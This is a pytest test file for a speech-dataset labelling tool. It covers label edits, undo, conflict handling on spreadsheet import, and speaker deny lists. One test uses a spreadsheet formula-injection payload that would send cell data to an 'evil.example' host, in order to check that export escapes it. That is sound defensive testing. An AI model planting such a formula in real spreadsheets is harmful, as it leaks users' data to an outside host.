"""Labels: schema checks, edits with history and undo, source defaults, speakers, spreadsheets."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from conftest import SAMPLE, run_cli

from accentds.errors import AccentdsError
from accentds.files import read_csv, write_csv_atomic
from accentds.label_sheets import export_labels, from_spreadsheet, import_labels, spreadsheet_text
from accentds.label_undo import undo
from accentds.labels import (
    LabelConflict,
    history,
    list_labels,
    rename_speaker,
    set_labels,
    set_source_defaults,
)
from accentds.selection import deny, read_deny
from accentds.views import refresh_manifest
from accentds.workspace import DRAFT_FIELDS, Workspace


def _ids(ws: Workspace) -> list[str]:
    return [c.clip_id for c in ws.read_clips()]


def _manifest(ws: Workspace) -> dict[str, dict]:
    refresh_manifest(ws)  # the views are rebuilt by the next command
    return {r["clip_id"]: r for r in pq.read_table(ws.manifest_parquet).to_pylist()}


def test_set_labels_writes_labels_history_and_manifest(cut_ws: Workspace) -> None:
    first, second = _ids(cut_ws)[:2]
    changes = set_labels(cut_ws, [first], {"transcript": "  Aye,  it's dreich ", "accent": "Glasgow"}, "ann")
    assert {(c.field, c.old, c.new) for c in changes} == {
        ("transcript", "", "Aye, it's dreich"),
        ("accent", "", "Glasgow"),
    }
    row = cut_ws.read_labels()[first]
    assert (row["transcript"], row["accent"], row["reviewer"], row["version"]) == (
        "Aye, it's dreich",
        "Glasgow",
        "ann",
        "1",
    )
    shown = _manifest(cut_ws)
    assert shown[first]["transcript"] == "Aye, it's dreich" and shown[first]["status"] == "pending"
    assert shown[second]["accent"] == "" and shown[second]["version"] == 0
    assert [(h["field"], h["new"], h["reviewer"]) for h in history(cut_ws, first)] == [
        ("transcript", "Aye, it's dreich", "ann"), ("accent", "Glasgow", "ann"),
    ]  # fmt: skip
    assert set_labels(cut_ws, [first], {"accent": "Glasgow"}, "ann") == []  # no change, no new version
    assert cut_ws.read_labels()[first]["version"] == "1"


@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"accent": "Yorkshire"}, "unknown accent 'Yorkshire'; allowed: 'Glasgow', 'Edinburgh'"),
        ({"accent_evidence": "a hunch"}, "unknown accent evidence 'a hunch'; allowed: 'self-described'"),
        ({"status": "maybe"}, "unknown status 'maybe'; allowed: 'pending', 'accepted', 'rejected'"),
        ({"status": ""}, "unknown status ''"),
        ({"mood": "happy"}, "unknown field 'mood'"),
    ],
)
def test_values_outside_the_schema_are_refused(cut_ws: Workspace, values: dict, message: str) -> None:
    before = cut_ws.labels_csv.read_bytes()
    with pytest.raises(AccentdsError, match=message.replace("(", r"\(")):
        set_labels(cut_ws, _ids(cut_ws)[:1], values)
    assert cut_ws.labels_csv.read_bytes() == before


def test_unknown_clip_and_stale_version_are_refused(cut_ws: Workspace) -> None:
    clip = _ids(cut_ws)[0]
    with pytest.raises(AccentdsError, match="unknown clip id"):
        set_labels(cut_ws, ["file-000000000000-00000000-00001000"], {"speaker": "x"})
    set_labels(cut_ws, [clip], {"speaker": "Morag"}, expected_version=0)
    with pytest.raises(LabelConflict) as caught:
        set_labels(cut_ws, [clip], {"speaker": "Hamish"}, expected_version=0)
    assert caught.value.current["speaker"] == "Morag" and caught.value.version == 1
    assert cut_ws.read_labels()[clip]["speaker"] == "Morag"


def test_undo_restores_the_previous_values_one_edit_at_a_time(cut_ws: Workspace) -> None:
    clip = _ids(cut_ws)[0]
    set_labels(cut_ws, [clip], {"speaker": "Morag", "status": "accepted"})
    set_labels(cut_ws, [clip], {"speaker": "Hamish"})
    undo(cut_ws, clip)
    assert cut_ws.read_labels()[clip]["speaker"] == "Morag"
    undo(cut_ws, clip)
    row = cut_ws.read_labels()[clip]
    assert (row["speaker"], row["status"]) == ("", "")
    with pytest.raises(AccentdsError, match="nothing to undo"):
        undo(cut_ws, clip)
    assert [h["new"] for h in history(cut_ws, clip) if h["field"] == "speaker"] == [
        "Morag",
        "Hamish",
        "Morag",
        "",
    ]


def test_source_defaults_apply_unless_the_clip_says_otherwise(cut_ws: Workspace) -> None:
    source = cut_ws.read_sources()[0].source_id
    first, second = _ids(cut_ws)[:2]
    set_source_defaults(cut_ws, source, speaker="Morag", accent="Glasgow", accent_evidence="self-described")
    set_labels(cut_ws, [second], {"speaker": "Hamish"})
    shown = _manifest(cut_ws)
    assert (shown[first]["speaker"], shown[first]["accent"], shown[first]["accent_evidence"]) == (
        "Morag", "Glasgow", "self-described",
    )  # fmt: skip
    assert (shown[second]["speaker"], shown[second]["accent"]) == ("Hamish", "Glasgow")
    with pytest.raises(AccentdsError, match="unknown accent"):
        set_source_defaults(cut_ws, source, accent="Leeds")
    with pytest.raises(AccentdsError, match="unknown source id"):
        set_source_defaults(cut_ws, "file-nope", speaker="x")


def test_rename_and_merge_speakers(cut_ws: Workspace) -> None:
    ids = _ids(cut_ws)
    source = cut_ws.read_sources()[0].source_id
    set_labels(cut_ws, ids[:2], {"speaker": "Morag M"})
    set_labels(cut_ws, ids[2:3], {"speaker": "Morag MacLeod"})
    set_source_defaults(cut_ws, source, speaker="Morag M")
    assert rename_speaker(cut_ws, "Morag M", "Morag MacLeod") == 3
    assert {r["speaker"] for r in list_labels(cut_ws)} == {"Morag MacLeod"}
    with pytest.raises(AccentdsError, match="no clip or source has the speaker"):
        rename_speaker(cut_ws, "Morag M", "x")


def test_accepting_confirms_the_caption_draft(cut_ws: Workspace) -> None:
    first, second = _ids(cut_ws)[:2]
    drafts = [{"clip_id": first, "transcript_draft": "Aye, it's a dreich morning", "draft_kind": "manual"}]
    write_csv_atomic(cut_ws.drafts_csv, DRAFT_FIELDS, drafts)
    shown = {r["clip_id"]: r for r in list_labels(cut_ws)}
    assert shown[first]["transcript"] == "Aye, it's a dreich morning" and shown[first]["transcript_is_draft"]
    assert not shown[second]["transcript_is_draft"]
    set_labels(cut_ws, [first], {"status": "accepted"})
    assert cut_ws.read_labels()[first]["transcript"] == "Aye, it's a dreich morning"
    assert not _manifest(cut_ws)[first]["transcript_is_draft"]


def test_an_empty_transcript_dismisses_the_draft_and_undo_brings_it_back(cut_ws: Workspace) -> None:
    first = _ids(cut_ws)[0]
    drafts = [{"clip_id": first, "transcript_draft": "Wrong caption words", "draft_kind": "captions"}]
    write_csv_atomic(cut_ws.drafts_csv, DRAFT_FIELDS, drafts)
    changed = set_labels(cut_ws, [first], {"transcript": ""})
    assert [(c.field, c.new) for c in changed] == [("draft_dismissed", "1")]
    row = _manifest(cut_ws)[first]
    assert row["transcript"] == "" and not row["transcript_is_draft"]
    assert row["transcript_draft"] == "Wrong caption words"  # kept as a suggestion
    set_labels(cut_ws, [first], {"status": "accepted"})  # accepting confirms no draft now
    assert cut_ws.read_labels()[first]["transcript"] == ""
    undo(cut_ws, first)
    undo(cut_ws, first)
    row = _manifest(cut_ws)[first]
    assert row["transcript"] == "Wrong caption words" and row["transcript_is_draft"]
    assert row["status"] == "pending"


def test_export_then_import_is_no_change_and_edits_apply(cut_ws: Workspace, tmp_path: Path) -> None:
    sheet = tmp_path / "labels.csv"
    assert export_labels(cut_ws, sheet) == 8
    assert import_labels(cut_ws, sheet) == []
    rows = read_csv(sheet)
    rows[0]["speaker"], rows[0]["status"] = "Morag", "accepted"
    rows[3]["accent"] = "Fife"
    write_csv_atomic(sheet, list(rows[0]), rows)
    planned = import_labels(cut_ws, sheet, dry_run=True)
    expected = {
        (rows[0]["clip_id"], "speaker", "Morag"), (rows[0]["clip_id"], "status", "accepted"),
        (rows[0]["clip_id"], "transcript", rows[0]["transcript"]),  # accepting confirms the caption draft
        (rows[3]["clip_id"], "accent", "Fife"),
    }  # fmt: skip
    assert rows[0]["transcript_is_draft"] == "yes" and rows[0]["transcript"].startswith("Aye, it's a dreich")
    assert {(c.clip_id, c.field, c.new) for c in planned} == expected
    assert cut_ws.read_labels() == {}
    assert {(c.clip_id, c.field, c.new) for c in import_labels(cut_ws, sheet)} == expected
    assert cut_ws.read_labels()[rows[3]["clip_id"]]["accent"] == "Fife"


def test_an_older_sheet_keeps_what_changed_since_and_refuses_what_both_changed(
    cut_ws: Workspace, tmp_path: Path
) -> None:
    """A sheet exported before another reviewer's edit: importing it keeps that edit (it used
    to put the sheet's older words back, silently), applies what only the sheet changed, and
    stops, changing nothing, where both changed the same cell."""
    first, second, third, fourth = sorted(cut_ws.read_clip_table(columns=["clip_id"])["clip_id"].to_pylist())[
        :4
    ]
    set_labels(cut_ws, [first, second], {"transcript": "Words typed before the export"})
    sheet = tmp_path / "stale.csv"
    export_labels(cut_ws, sheet)
    set_labels(cut_ws, [first], {"transcript": "Carol fixed this on the review page"}, reviewer="carol")
    set_labels(cut_ws, [fourth], {"transcript": "Carol typed these", "status": "accepted"}, reviewer="carol")
    rows = read_csv(sheet)
    by_id = {row["clip_id"]: row for row in rows}
    by_id[second]["note"] = "dave's note"  # another row of the same clip set
    by_id[third]["accent"] = "Fife"
    write_csv_atomic(sheet, list(rows[0]), rows)
    changes = import_labels(cut_ws, sheet, reviewer="dave")
    assert {(c.clip_id, c.field, c.new) for c in changes} == {
        (second, "note", "dave's note"),
        (third, "accent", "Fife"),
    }
    assert cut_ws.read_labels()[first]["transcript"] == "Carol fixed this on the review page"
    # a clip nobody had labelled at the export: its shown draft and pending status are no edit
    assert (cut_ws.read_labels()[fourth]["transcript"], cut_ws.read_labels()[fourth]["status"]) == (
        "Carol typed these",
        "accepted",
    )
    # the sheet's cell changed too: both changed it, nothing is imported
    by_id[first]["transcript"] = "Dave's words"
    by_id[third]["accent"] = "Glasgow"
    write_csv_atomic(sheet, list(rows[0]), rows)
    with pytest.raises(AccentdsError, match=r"transcript of .+ changed since this sheet was written"):
        import_labels(cut_ws, sheet, reviewer="dave")
    labels = cut_ws.read_labels()
    assert labels[first]["transcript"] == "Carol fixed this on the review page"
    assert labels[third]["accent"] == "Fife"


def test_export_escapes_formulas_for_spreadsheets_and_imports_back(cut_ws: Workspace, tmp_path: Path) -> None:
    ids = _ids(cut_ws)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    set_labels(cut_ws, [ids[0]], {"transcript": formula, "speaker": "@Morag", "note": "-2+3"}, "ann")
    set_labels(cut_ws, [ids[1]], {"transcript": "'=quoted already", "speaker": "+44 Ailsa"}, "ann")
    set_labels(cut_ws, [ids[2]], {"transcript": "'Twas - aye", "note": "a = b"}, "ann")
    sheet = tmp_path / "labels.csv"
    done = run_cli("labels", "export", str(sheet), cwd=cut_ws.root)
    assert done.returncode == 0, done.stderr
    with open(sheet, newline="", encoding="utf-8-sig") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []  # nothing a spreadsheet would run as a formula
    rows = {r["clip_id"]: r for r in read_csv(sheet)}
    assert rows[ids[0]]["transcript"] == "'" + formula and rows[ids[0]]["speaker"] == "'@Morag"
    assert rows[ids[0]]["note"] == "'-2+3" and rows[ids[1]]["speaker"] == "'+44 Ailsa"
    assert rows[ids[1]]["transcript"] == "''=quoted already"
    assert rows[ids[2]]["transcript"] == "'Twas - aye" and rows[ids[2]]["note"] == "a = b"  # plain text
    assert import_labels(cut_ws, sheet) == []  # reads back as the same labels
    rows[ids[0]]["note"] = "'-5"  # as a spreadsheet keeps an escaped cell
    rows[ids[1]]["speaker"] = "+44 Ailsa"  # or as one saves it unescaped
    write_csv_atomic(sheet, list(rows[ids[0]]), list(rows.values()))
    changes = import_labels(cut_ws, sheet)
    assert [(c.clip_id, c.field, c.new) for c in changes] == [(ids[0], "note", "-5")]


def test_labels_export_takes_its_file_with_o_as_export_does_and_as_an_argument_as_before(
    cut_ws: Workspace, tmp_path: Path
) -> None:
    written = {}
    for spelling in (["-o"], ["--output"], []):
        sheet = tmp_path / f"labels{''.join(spelling)}.csv"
        done = run_cli("labels", "export", *spelling, str(sheet), cwd=cut_ws.root)
        assert done.returncode == 0, done.stderr
        assert done.stdout.startswith(f"wrote 8 clips to {sheet}")
        written[tuple(spelling)] = sheet.read_bytes()
    assert len(set(written.values())) == 1
    neither = run_cli("labels", "export", cwd=cut_ws.root)
    assert neither.returncode == 1
    assert neither.stderr.strip() == "Error: give the CSV file to write: accentds labels export -o labels.csv"
    both = run_cli("labels", "export", "a.csv", "-o", "b.csv", cwd=cut_ws.root)
    assert both.returncode == 1
    assert both.stderr.strip() == "Error: two files to write, a.csv and b.csv: give one, with -o"
    assert not (cut_ws.root / "a.csv").exists() and not (cut_ws.root / "b.csv").exists()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-", "'-"), ("''@x", "'''@x"),
        ("'", "'"), ("'a", "'a"), ("a=b", "a=b"), ("", ""), ("Aye", "Aye"),
    ],
)  # fmt: skip
def test_spreadsheet_cells_round_trip(value: str, cell: str) -> None:
    assert spreadsheet_text(value) == cell
    assert from_spreadsheet(cell) == value


def test_import_with_bad_rows_changes_nothing_and_names_them(cut_ws: Workspace, tmp_path: Path) -> None:
    sheet = tmp_path / "labels.csv"
    export_labels(cut_ws, sheet)
    rows = read_csv(sheet)
    rows[0]["speaker"] = "Morag"
    rows[2]["accent"] = "Yorkshire"
    rows[5]["clip_id"] = "file-000000000000-00000000-00001000"
    rows[6]["status"] = "done"
    write_csv_atomic(sheet, list(rows[0]), rows)
    labels_before = cut_ws.labels_csv.read_bytes()
    done = run_cli("labels", "import", str(sheet), cwd=cut_ws.root)
    assert done.returncode == 1
    assert "nothing imported, 3 problem(s)" in done.stderr
    assert "row 4: unknown accent 'Yorkshire'" in done.stderr
    assert "row 7: unknown clip id 'file-000000000000-00000000-00001000'" in done.stderr
    assert "row 8: unknown status 'done'" in done.stderr
    assert cut_ws.labels_csv.read_bytes() == labels_before


@pytest.mark.parametrize("command", [["labels", "history"], ["labels", "undo"]])
def test_labels_history_and_undo_of_an_unknown_clip_are_errors(cut_ws: Workspace, command: list[str]) -> None:
    """`labels history` and `labels undo` refuse an id no clip has, as `label` does; a clip
    without changes still says so."""
    refused = run_cli("label", "nope", "--accept", cwd=cut_ws.root)
    unknown = run_cli(*command, "nope", cwd=cut_ws.root)
    assert unknown.returncode == refused.returncode == 1 and unknown.stdout == ""
    assert unknown.stderr.strip().splitlines() == [
        "Error: unknown clip id(s): nope; `accentds labels list` shows them"
    ]
    clip = _ids(cut_ws)[0]
    quiet = run_cli(*command, clip, cwd=cut_ws.root)
    if command[1] == "history":
        assert quiet.returncode == 0 and quiet.stdout.strip() == f"no changes recorded for {clip}"
    else:
        assert quiet.returncode == 1 and quiet.stderr.strip() == f"Error: nothing to undo for {clip}"


def test_label_cli(cut_ws: Workspace) -> None:
    clip = _ids(cut_ws)[0]
    done = run_cli("label", clip, "--transcript", "Aye", "--speaker", "Morag", "--accept", cwd=cut_ws.root)
    assert done.returncode == 0, done.stderr
    assert "3 changes on 1 clip" in done.stdout
    # a clip no one set a status on is pending, as `labels import` and the views show it
    assert f"set    {clip}  status: 'pending' -> 'accepted'" in done.stdout, done.stdout
    refused = run_cli("label", clip, "--accent", "Leeds", cwd=cut_ws.root)
    assert refused.returncode == 1 and "unknown accent 'Leeds'; allowed: 'Glasgow'" in refused.stderr
    both = run_cli("label", clip, "--accept", "--reject", cwd=cut_ws.root)
    assert both.returncode == 1 and "only one of --accept, --reject" in both.stderr
    listed = run_cli("labels", "list", "--status", "accepted", cwd=cut_ws.root)
    assert clip in listed.stdout and "1 clip, 0.1 min" in listed.stdout
    status = run_cli("status", cwd=cut_ws.root)
    assert re.search(r"^accepted\s+1\s+0\.1$", status.stdout, re.M), status.stdout
    assert run_cli("labels", "undo", clip, cwd=cut_ws.root).returncode == 0
    assert "transcript: '' -> 'Aye'" in run_cli("labels", "history", clip, cwd=cut_ws.root).stdout
    assert cut_ws.read_labels()[clip]["status"] == ""
    with open(cut_ws.labels_csv, newline="") as handle:  # the view lists labelled clips only
        assert clip not in {r["clip_id"] for r in csv.DictReader(handle)}


def test_pull_with_speaker_and_accent(workspace: Workspace) -> None:
    bad = run_cli("pull", str(SAMPLE), "--accent", "Leeds", cwd=workspace.root)
    assert bad.returncode == 1 and "unknown accent" in bad.stderr
    assert workspace.read_sources() == []  # refused before pulling anything
    done = run_cli("pull", str(SAMPLE), "--speaker", "Morag", "--accent", "Fife", cwd=workspace.root)
    assert done.returncode == 0, done.stderr
    assert {(r["speaker"], r["accent"]) for r in list_labels(workspace)} == {("Morag", "Fife")}


def test_statuses_accents_and_names_are_taken_in_any_case_by_every_command(cut_ws: Workspace) -> None:
    """`label`, `source set` and `labels list` take "accepted", "edinburgh" or "morag" as the
    import does (they were refused as unknown, or listed nothing)."""
    clip = _ids(cut_ws)[0]
    done = run_cli(
        "label",
        clip,
        "--accept",
        "--accent",
        "edinburgh",
        "--evidence",
        "Self-Described",
        "--speaker",
        "Morag",
        cwd=cut_ws.root,
    )
    assert done.returncode == 0, done.stderr
    row = cut_ws.read_labels()[clip]
    assert (row["status"], row["accent"], row["accent_evidence"]) == (
        "accepted",
        "Edinburgh",
        "self-described",
    )
    [source] = cut_ws.read_sources()
    assert run_cli("source", "set", source.source_id, "--accent", "GLASGOW", cwd=cut_ws.root).returncode == 0
    listed = run_cli(
        "labels",
        "list",
        "--status",
        "ACCEPTED",
        "--speaker",
        "morag",
        "--accent",
        "EDINBURGH",
        cwd=cut_ws.root,
    )
    assert listed.returncode == 0 and clip in listed.stdout and "1 clip," in listed.stdout, listed


def test_labels_undo_last_import_restores_every_clip_it_changed(cut_ws: Workspace, tmp_path: Path) -> None:
    """A bad sheet changed many clips: one command takes the whole import back, as one record."""
    sheet = tmp_path / "sheet.csv"
    export_labels(cut_ws, sheet)
    rows = read_csv(sheet)
    for row in rows[:3]:
        row["status"], row["accent"] = "rejected", "Fife"
    write_csv_atomic(sheet, list(rows[0]), rows)
    assert run_cli("labels", "import", str(sheet), cwd=cut_ws.root).returncode == 0
    assert {r["status"] for r in cut_ws.read_labels().values()} == {"rejected"}
    undone = run_cli("labels", "undo", "--last-import", cwd=cut_ws.root)
    assert undone.returncode == 0, undone.stderr
    assert all(not row["status"] and not row["accent"] for row in cut_ws.read_labels().values())
    again = run_cli("labels", "undo", "--last-import", cwd=cut_ws.root)
    assert again.returncode == 1 and again.stderr.strip() == "Error: no labels import to undo"
    neither = run_cli("labels", "undo", cwd=cut_ws.root)
    assert neither.returncode == 1 and "give a clip id or --last-import" in neither.stderr


@pytest.mark.parametrize("cell", ["0.0", "0,00", " 0 "])
def test_a_version_a_spreadsheet_reformatted_still_keeps_later_edits(
    cut_ws: Workspace, tmp_path: Path, cell: str
) -> None:
    """A spreadsheet that re-saves the version column as "0.0" or "0,00": the sheet is still
    known to be older than the clip, so its unchanged cells do not put the old labels back
    (they used to, silently, as if the sheet had no version at all)."""
    first, second = sorted(cut_ws.read_clip_table(columns=["clip_id"])["clip_id"].to_pylist())[:2]
    sheet = tmp_path / "old.csv"
    export_labels(cut_ws, sheet)
    set_labels(cut_ws, [first], {"speaker": "Eilidh", "accent": "Dundee"}, reviewer="carol")
    rows = read_csv(sheet)
    for row in rows:
        row["version"] = cell
    by_id = {row["clip_id"]: row for row in rows}
    by_id[second]["note"] = "dave's note"
    write_csv_atomic(sheet, list(rows[0]), rows)
    changes = import_labels(cut_ws, sheet, reviewer="dave")
    assert {(c.clip_id, c.field, c.new) for c in changes} == {(second, "note", "dave's note")}
    assert cut_ws.read_labels()[first]["accent"] == "Dundee"


def test_a_version_that_is_no_whole_number_stops_the_import(cut_ws: Workspace, tmp_path: Path) -> None:
    sheet = tmp_path / "bad.csv"
    export_labels(cut_ws, sheet)
    rows = read_csv(sheet)
    rows[0]["version"], rows[0]["accent"] = "1.5", "Fife"
    write_csv_atomic(sheet, list(rows[0]), rows)
    with pytest.raises(AccentdsError, match=r"row 2: version '1.5' is not a whole number"):
        import_labels(cut_ws, sheet)
    assert cut_ws.read_labels() == {}


def test_a_sheet_without_its_version_column_is_imported_with_a_warning(
    cut_ws: Workspace, tmp_path: Path
) -> None:
    """A spreadsheet whose version column was deleted cannot tell what changed since it was
    exported: its cells are imported over later changes, and the import says so."""
    sheet = tmp_path / "trimmed.csv"
    export_labels(cut_ws, sheet)
    rows = read_csv(sheet)
    for row in rows:
        del row["version"]
    rows[0]["accent"] = "Fife"
    write_csv_atomic(sheet, list(rows[0]), rows)
    said: list[str] = []
    assert import_labels(cut_ws, sheet, warn=said.append)
    assert len(said) == 1 and "has no version column" in said[0]
    assert import_labels(cut_ws, sheet, warn=said.append) == [] and len(said) == 1  # nothing to import: quiet


def test_a_denied_speaker_stays_denied_when_renamed_or_merged(cut_ws: Workspace) -> None:
    ids = _ids(cut_ws)
    set_labels(cut_ws, ids[:2], {"speaker": "Ewan"})
    set_labels(cut_ws, ids[2:3], {"speaker": "Morag"})
    deny(cut_ws, "speaker", "Ewan", "asked to be removed")
    rename_speaker(cut_ws, "Ewan", "Ewan Grant")
    assert [(r["value"], r["reason"]) for r in read_deny(cut_ws)] == [("Ewan Grant", "asked to be removed")]
    result = run_cli("speakers", "rename", "Ewan Grant", "Morag", "--workspace", str(cut_ws.root))
    assert result.returncode == 0, result.stderr
    assert "'Morag' is on the deny list (asked to be removed)" in result.stdout
    assert [r["value"] for r in read_deny(cut_ws)] == ["Morag"]


def test_a_sheet_resaved_with_blank_rows_imports_and_names_rows_as_the_spreadsheet(
    cut_ws: Workspace, tmp_path: Path
) -> None:
    sheet = tmp_path / "labels.csv"
    export_labels(cut_ws, sheet)
    rows = read_csv(sheet)
    rows[0]["transcript"] = "Aye, it's a braw day"
    rows[1]["status"] = "rejected"
    columns = list(reversed(rows[0]))  # columns moved around
    blank = ",".join([""] * len(columns))
    lines = [",".join(columns), *(",".join(f'"{r[c]}"' for c in columns) for r in rows)]
    lines[3:3] = [blank, blank, ""]  # rows 4 to 6 of the spreadsheet left empty
    sheet.write_bytes(("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8"))
    changes = import_labels(cut_ws, sheet, "ann")
    assert {(c.clip_id, c.field, c.new) for c in changes} == {
        (rows[0]["clip_id"], "transcript", "Aye, it's a braw day"),
        (rows[1]["clip_id"], "status", "rejected"),
    }
    lines[8] = lines[8].replace(rows[4]["clip_id"], "file-nope")  # the 5th clip, on row 9
    sheet.write_bytes(("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8"))
    with pytest.raises(AccentdsError, match=r"1 problem\(s\):\n  row 9: unknown clip id 'file-nope'$"):
        import_labels(cut_ws, sheet, "ann")


def test_a_label_column_retyped_in_the_spreadsheet_is_still_imported(
    cut_ws: Workspace, tmp_path: Path
) -> None:
    first, second = _ids(cut_ws)[:2]
    sheet = tmp_path / "labels.csv"
    sheet.write_text(f"Clip ID,Status,Accent Evidence,transcript\n{first},Rejected,self-described,Aye\n")
    changes = import_labels(cut_ws, sheet, "ann")
    assert {(c.field, c.new) for c in changes} == {
        ("status", "rejected"), ("accent_evidence", "self-described"), ("transcript", "Aye"),
    }  # fmt: skip
    sheet.write_text(f"clip_id,status,Status\n{second},accepted,rejected\n")
    with pytest.raises(AccentdsError, match=r"has 2 status columns \(status, Status\): keep one"):
        import_labels(cut_ws, sheet, "ann")


def test_a_sheet_imports_back_after_an_accent_is_taken_out_of_the_schema(
    cut_ws: Workspace, tmp_path: Path
) -> None:
    first, second = _ids(cut_ws)[:2]
    set_labels(cut_ws, [first, second], {"accent": "Dundee"}, "ann")
    toml = cut_ws.root / "accentds.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace('    "Dundee",\n', ""), encoding="utf-8")
    ws = Workspace(cut_ws.root)
    sheet = tmp_path / "labels.csv"
    export_labels(ws, sheet)
    rows = read_csv(sheet)
    rows[0]["note"] = "checked"
    write_csv_atomic(sheet, list(rows[0]), rows)
    assert [(c.clip_id, c.field) for c in import_labels(ws, sheet, "ann")] == [(first, "note")]
    rows[1]["accent"] = "dundee"  # set again by hand: still refused
    write_csv_atomic(sheet, list(rows[0]), rows)
    with pytest.raises(AccentdsError, match="row 3: unknown accent 'dundee'"):
        import_labels(ws, sheet, "ann")


def test_a_stray_quote_in_a_sheet_stops_the_import_at_its_row(cut_ws: Workspace, tmp_path: Path) -> None:
    first, second = _ids(cut_ws)[:2]
    sheet = tmp_path / "labels.csv"
    sheet.write_text(f'clip_id,note\n{first},fine\n{second},"not closed\n{first},again\n')
    with pytest.raises(
        AccentdsError, match=r"labels.csv line 3: not readable as CSV \(unexpected end of data\)"
    ):
        import_labels(cut_ws, sheet, "ann")
    assert cut_ws.read_labels().get(first, {}).get("note", "") == ""


def test_a_sheet_naming_a_clip_split_since_says_where_its_labels_are(
    cut_ws: Workspace, tmp_path: Path
) -> None:
    from accentds.bounds import split_clip

    clip = cut_ws.read_clips()[2]
    set_labels(cut_ws, [clip.clip_id], {"transcript": "Aye"}, "ann")
    sheet = tmp_path / "labels.csv"
    export_labels(cut_ws, sheet)
    first, second = split_clip(cut_ws, clip.clip_id, round(clip.start + 1, 3)).clips
    rows = read_csv(sheet)
    rows[2]["note"] = "two sentences"
    write_csv_atomic(sheet, list(rows[0]), rows)
    with pytest.raises(AccentdsError) as caught:
        import_labels(cut_ws, sheet, "ann")
    assert str(caught.value).endswith(
        f"row 4: clip {clip.clip_id} no longer exists (split): its labels are on {first.clip_id} and "
        f"{second.clip_id}: put the new id in the row, or export the labels again"
    )


def test_a_sheet_naming_unlabelled_clips_cut_again_since_says_so(
    sample_ws: Workspace, tmp_path: Path
) -> None:
    """A re-cut records no move for a clip without labels: its row in a sheet exported before
    read `unknown clip id`, as if the sheet were garbled, beside rows of labelled clips that
    said `no longer exists (re-cut)`."""
    from dataclasses import replace

    from accentds.cut import cut

    sheet = tmp_path / "labels.csv"
    export_labels(sample_ws, sheet)
    gone = read_csv(sheet)[0]["clip_id"]
    cut(sample_ws, vad=replace(sample_ws.config.vad, padding_ms=300), workers=1)
    rows = read_csv(sheet)
    rows[0]["note"] = "checked"
    write_csv_atomic(sheet, list(rows[0]), rows)
    with pytest.raises(AccentdsError) as caught:
        import_labels(sample_ws, sheet, "ann")
    source = gone.rsplit("-", 2)[0]
    assert (
        f"row 2: clip {gone} no longer exists (its source {source} was cut again): export the labels again"
        in (str(caught.value))
    )


def test_undoing_an_import_or_a_typed_transcript_brings_the_caption_draft_back(
    cut_ws: Workspace, tmp_path: Path
) -> None:
    """Undo put an empty transcript back on clips that showed a caption draft, which read as
    an empty transcript typed in: the drafts were dismissed, the clips showed no words."""
    before = {cid: (r["transcript"], r["transcript_is_draft"]) for cid, r in _manifest(cut_ws).items()}
    assert all(draft for _, draft in before.values())
    sheet = tmp_path / "sheet.csv"
    export_labels(cut_ws, sheet)
    rows = read_csv(sheet)
    for row in rows:
        row["transcript"] = "Words typed in the spreadsheet"
    write_csv_atomic(sheet, list(rows[0]), rows)
    assert run_cli("labels", "import", str(sheet), cwd=cut_ws.root).returncode == 0
    undone = run_cli("labels", "undo", "--last-import", cwd=cut_ws.root)
    assert undone.returncode == 0, undone.stderr
    after = {cid: (r["transcript"], r["transcript_is_draft"]) for cid, r in _manifest(cut_ws).items()}
    assert after == before
    first = rows[0]["clip_id"]
    set_labels(cut_ws, [first], {"transcript": "Typed on the page"})
    undo(cut_ws, first)
    assert (
        _manifest(cut_ws)[first]["transcript"],
        _manifest(cut_ws)[first]["transcript_is_draft"],
    ) == before[first]


def test_a_sheet_imported_then_undone_imports_again(cut_ws: Workspace, tmp_path: Path) -> None:
    """Undoing an import puts every cell back as the sheet found it: importing the sheet again
    (fixed or not) is no conflict. It was refused cell by cell ("changed since this sheet was
    written (now '', ...)") though nobody else had changed anything."""
    sheet = tmp_path / "sheet.csv"
    export_labels(cut_ws, sheet)
    rows = read_csv(sheet)
    for row in rows:
        row["speaker"], row["status"], row["accent"] = "Morag", "accepted", "Fife"
        row["transcript"] = "Words typed in the spreadsheet"
    write_csv_atomic(sheet, list(rows[0]), rows)
    first = import_labels(cut_ws, sheet)
    assert run_cli("labels", "undo", "--last-import", cwd=cut_ws.root).returncode == 0
    again = run_cli("labels", "import", str(sheet), cwd=cut_ws.root)
    assert again.returncode == 0, again.stderr
    labels = cut_ws.read_labels()
    assert len(first) == 8 * 4
    assert {(r["speaker"], r["status"], r["accent"], r["transcript"]) for r in labels.values()} == {
        ("Morag", "accepted", "Fife", "Words typed in the spreadsheet")
    }
    # both changed a cell since: still refused, naming what the clip shows now
    set_labels(cut_ws, [rows[0]["clip_id"]], {"status": "rejected"})
    with pytest.raises(AccentdsError, match=r"status of .+ \(now 'rejected', the sheet says 'accepted'\)"):
        import_labels(cut_ws, sheet)
